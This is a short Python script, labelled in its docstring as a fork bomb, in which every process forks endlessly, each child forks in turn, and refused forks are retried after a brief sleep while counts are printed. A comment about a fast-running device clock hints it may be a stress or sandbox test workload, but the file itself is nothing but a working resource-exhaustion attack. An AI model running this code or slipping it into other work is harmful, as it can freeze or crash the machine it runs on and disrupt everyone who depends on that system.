"""Fork bomb: every child forks too; each keeps trying as long as it lives."""
import os
import time

refused = 0
born = 0
print(f"forkbomb: pid {os.getpid()} starting", flush=True)
while True:
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        if refused % 200 == 1:
            print(f"forkbomb: pid {os.getpid()} fork refused ({refused}), {born} born", flush=True)
        time.sleep(0.5)  # device time: the clock runs fast
        continue
    if pid == 0:
        born = 0
        refused = 0
        continue  # the child is a bomb too
    born += 1
